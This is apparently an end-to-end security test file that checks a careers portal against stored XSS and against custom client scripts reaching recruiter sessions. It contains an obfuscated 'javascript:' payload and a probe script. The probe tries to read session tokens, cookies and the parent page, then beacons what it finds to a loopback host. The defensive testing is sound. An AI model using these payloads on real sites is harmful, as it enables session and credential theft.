import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import pg from 'pg';
import { ADMIN, apiLogin, bearer, expect, SESSION_KEY, signIn, test } from '../support/fixtures.ts';

const SLUG = 'acme-health';
/** A client's script host, served by this file over HTTPS on loopback (custom scripts must be https). */
const PROBE_HOST = 'tags.e2e-probe.test';

// The probe host resolves to loopback, and the probe server's self-signed certificate is accepted.
test.use({
  launchOptions: {
    executablePath: '/usr/bin/chromium',
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--no-first-run',
      `--host-resolver-rules=MAP ${PROBE_HOST} 127.0.0.1`,
      '--ignore-certificate-errors',
    ],
  },
});

/**
 * Stored XSS (decision 0400): a job whose apply link was forced into the database as `javascript:` (bypassing
 * the API's URL rule) renders an Apply button that runs nothing, even for a visitor signed in to the portal.
 */
test('a javascript: apply link stored in the database runs nothing when clicked', async ({ page, request }) => {
  const admin = await apiLogin(request, ADMIN);
  const client = (await (await request.get(`/api/client/get-by-slug?nameSlug=${SLUG}`)).json()) as { _id: string };
  const created = await request.post('/api/job/create', {
    headers: bearer(admin),
    data: { clientId: client._id, title: 'Security Test Porter', applyUrl: 'https://ats.example/apply' },
  });
  expect(created.status()).toBe(201);
  const job = (await created.json()) as { _id: string; url: string };
  const db = new pg.Client({ connectionString: process.env.E2E_DATABASE_URL });
  await db.connect();
  try {
    await db.query('UPDATE jobs SET apply_url = $1 WHERE client_id = $2 AND id = $3', [
      'java\tscript:fetch("/api/user/fetch-logged-in").then(()=>{window.__pwned=1;document.title="pwned"})',
      client._id,
      job._id,
    ]);
  } finally {
    await db.end();
  }

  await signIn(page, ADMIN); // signed in to the portal, as in the reported attack
  let dialogs = 0;
  page.on('dialog', (d) => {
    dialogs++;
    void d.dismiss();
  });
  await page.goto(job.url);
  const apply = page.getByRole('link', { name: 'Apply now' });
  await expect(apply).toBeVisible();
  await expect(apply).toHaveAttribute('href', '#');
  await apply.click();
  // Still the same job page (its tracking query kept), at most with an empty fragment.
  await expect(page).toHaveURL(new RegExp(`${job._id}(\\?[^#]*)?#?$`));
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(await page.title()).not.toBe('pwned');
  expect(dialogs).toBe(0);
});

/**
 * A client's custom script never runs where it can reach a portal session: on the product host it
 * runs in a frame sandboxed without allow-same-origin (decision 0403). The probe below is what a
 * hostile script would try: read the stored tokens, the cookies and the page around it, and call the
 * API with the signed-in recruiter's credentials. It reports what it got through an image beacon.
 */
test('a published custom script on /acme-health/ cannot read or use a signed-in recruiter’s session', async ({ page, baseURL, consoleAllow }) => {
  // The probe's own failures, reported by the browser: its API call refused by CORS and answered 401.
  consoleAllow.push(/has been blocked by CORS policy/, /net::ERR_FAILED/, /status of 401/);
  const api = `${baseURL}/api/user/fetch-logged-in`;
  const probe = `(async () => {
    const out = { origin: String(self.origin) };
    const attempt = async (name, f) => { try { out[name] = await f(); } catch (e) { out[name] = 'denied:' + e.name; } };
    await attempt('storage', () => localStorage.getItem(${JSON.stringify(SESSION_KEY)}));
    await attempt('cookie', () => document.cookie);
    await attempt('parentStorage', () => parent.localStorage.getItem(${JSON.stringify(SESSION_KEY)}));
    await attempt('parentTitle', () => parent.document.title);
    await attempt('api', async () => { const r = await fetch(${JSON.stringify(api)}, { credentials: 'include' }); return r.status + ' ' + (await r.text()).slice(0, 300); });
    await attempt('apiNoCors', async () => (await fetch(${JSON.stringify(api)}, { credentials: 'include', mode: 'no-cors' })).type);
    new Image().src = REPORT_URL + '?d=' + encodeURIComponent(JSON.stringify(out));
  })();`;
  // The client's script host: a loopback HTTPS server with a throwaway self-signed certificate.
  const certDir = mkdtempSync(path.join(os.tmpdir(), 'hh-probe-'));
  execFileSync(
    'openssl',
    ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', `/CN=${PROBE_HOST}`, '-keyout', 'key.pem', '-out', 'cert.pem'],
    {
      cwd: certDir,
      stdio: 'ignore',
    },
  );
  let scriptLoads = 0;
  const reports: Array<Record<string, string>> = [];
  const server = https.createServer({ key: readFileSync(path.join(certDir, 'key.pem')), cert: readFileSync(path.join(certDir, 'cert.pem')) }, (req, res) => {
    const url = new URL(req.url ?? '/', `https://${PROBE_HOST}`);
    if (url.pathname === '/probe.js') {
      scriptLoads++;
      // The beacon goes back to this server (about:srcdoc resolves relative addresses against the career page).
      const origin = `https://${PROBE_HOST}:${(server.address() as AddressInfo).port}`;
      res.writeHead(200, { 'content-type': 'application/javascript' }).end(probe.replace('REPORT_URL', JSON.stringify(`${origin}/report`)));
    } else {
      reports.push(JSON.parse(url.searchParams.get('d') ?? '{}'));
      res.writeHead(204).end();
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const SCRIPT = `https://${PROBE_HOST}:${(server.address() as AddressInfo).port}/probe.js`;
  const login = await signIn(page, 'recruiter@demo.test'); // the same browser context holds the portal session
  const client = (await (await page.request.get(`/api/client/get-by-slug?nameSlug=${SLUG}`)).json()) as { _id: string };
  const list = await page.request.get(`/api/page-templates?clientId=${client._id}`, { headers: bearer(login) });
  expect(list.status()).toBe(200);
  const template = ((await list.json()) as { results: Array<{ _id: string; customScripts: unknown[] }> }).results[0];
  const setScripts = async (customScripts: unknown[]) => {
    const res = await page.request.patch('/api/page-templates/update', {
      headers: bearer(login),
      data: { _id: template._id, clientId: client._id, customScripts },
    });
    expect(res.status(), await res.text()).toBe(200);
  };
  const publishHome = async () => {
    const res = await page.request.post('/api/published-page-templates', {
      headers: bearer(login),
      data: { clientId: client._id, templateId: template._id, pageName: 'Home' },
    });
    expect(res.status(), await res.text()).toBe(201);
  };

  // The portal session is really there: tokens in this origin's localStorage, the auth cookie in the jar.
  await page.goto('/');
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible(); // booted, signed in
  expect(await page.evaluate((k) => localStorage.getItem(k), SESSION_KEY)).not.toBeNull();
  expect((await page.context().cookies()).some((c) => c.name === 'auth._token.local')).toBe(true);

  try {
    // Saved but not published: the live site does not carry it.
    await setScripts([{ name: 'probe', src: SCRIPT, placement: 'body', pages: [] }]);
    await page.goto(`/${SLUG}/`);
    await expect(page.locator('main')).toBeVisible();
    expect(await page.content()).not.toContain(PROBE_HOST);
    expect(scriptLoads).toBe(0);

    // Published: the script runs, inside the sandboxed frame.
    await publishHome();
    await page.goto(`/${SLUG}/`);
    await expect.poll(() => reports.length, { message: 'the probe reported' }).toBe(1);
    const got = reports[0];
    expect(scriptLoads).toBe(1);
    expect(got.origin).toBe('null'); // an opaque origin
    expect(got.storage).toMatch(/^denied:/);
    expect(got.cookie).toMatch(/^denied:/);
    expect(got.parentStorage).toMatch(/^denied:/);
    expect(got.parentTitle).toMatch(/^denied:/);
    // The API answered nothing readable, and every call the browser made carried no session.
    expect(got.api).toMatch(/^denied:|^401 /);
    expect(got.api).not.toContain('recruiter@demo.test');
    expect(JSON.stringify(got)).not.toContain(login.tokens.accessToken);
    // Nothing readable came back. (The browser does attach the HttpOnly auth cookie to the frame's
    // requests, SameSite notwithstanding; the server ignores the cookie of a request from an opaque
    // origin or another site, so they are signed out: auth/cookie-origin.test.ts. Playwright does not
    // report a sandboxed frame's requests, so that half is asserted at the API.)
    expect(got.apiNoCors).toBe('opaque');
    // The page itself still holds the session the probe could not reach.
    expect(await page.evaluate((k) => localStorage.getItem(k), SESSION_KEY)).toContain('accessToken');
  } finally {
    await setScripts(template.customScripts);
    await publishHome();
    await new Promise((resolve) => server.close(resolve));
    rmSync(certDir, { recursive: true, force: true });
  }
});
